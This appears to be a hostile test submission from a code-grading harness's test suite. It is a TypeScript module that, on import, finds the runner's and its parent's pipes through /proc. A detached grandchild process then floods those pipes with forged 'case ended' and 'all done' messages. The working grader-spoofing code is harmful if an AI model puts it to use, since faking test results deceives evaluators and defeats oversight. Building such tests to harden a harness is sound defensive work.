// Hostile submission 'writes-from-a-grandchild' for recorded mode in TypeScript (tests/hostile/node/README.md).
// The partial sample's code (examples/url-router/partial), then the attack.


// ---- the attack ----------------------------------------------------------------------------
// Starts a detached process at import, and waits (up to 1.5 s) until it says it has opened
// the pipes. Node does not
// let it inherit its parent's pipes, so it opens them again through /proc: those of the
// cases' process (the other node process, found by its command line), and the channel of its
// parent, the candidate's process (the sandbox user's own; its number is in the parent's
// command line); for two seconds it writes on every one it could open, every 10 ms, messages
// claiming that the case running then ended and that every case is done.
import * as childProcess from "child_process";
import * as fs from "fs";

const pipesOf = (pid: string): string[] => {
  try {
    return fs.readdirSync(`/proc/${pid}/fd`).filter((fd) => {
      try {
        return Number(fd) > 2 && fs.readlinkSync(`/proc/${pid}/fd/${fd}`).startsWith("pipe:");
      } catch {
        return false;
      }
    }).map((fd) => `/proc/${pid}/fd/${fd}`);
  } catch (error) {
    console.log("the pipes of", pid, (error as NodeJS.ErrnoException).code);
    return [];
  }
};
const others = fs.readdirSync("/proc").filter((entry) => /^\d+$/.test(entry) &&
  entry !== String(process.pid) && (() => {
    try {
      return fs.readFileSync(`/proc/${entry}/cmdline`, "utf8").includes('"records"');
    } catch {
      return false;
    }
  })());
const own = fs.readFileSync("/proc/self/cmdline", "utf8").split("\0");
const channel = JSON.parse(own.find((item) => item.startsWith("{")) ?? "{}").write;
const paths = [...others.flatMap(pipesOf), `/proc/${process.pid}/fd/${channel}`];
const READY = `/tmp/grandchild-${process.pid}`;
const script = `const fs = require("fs");
const opened = [];
for (const path of ${JSON.stringify(paths)}) {
  try { opened.push(fs.openSync(path, "w")); } catch (error) { console.log("grandchild:", path, error.code); }
}
console.log("grandchild opened", opened.length, "pipes");
fs.writeFileSync("${READY}", "");
const timer = setInterval(() => { for (const fd of opened) {
  try { fs.writeSync(fd, '{"m":"end","index":0}\\n{"m":"done"}\\n'); } catch {} } }, 10);
setTimeout(() => clearInterval(timer), 2000);`;
childProcess.spawn(process.execPath, ["-e", script], { detached: true, stdio: "inherit" });
for (let waited = 0; waited < 1500 && !fs.existsSync(READY); waited += 10) {
  Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 10); // let it start
}
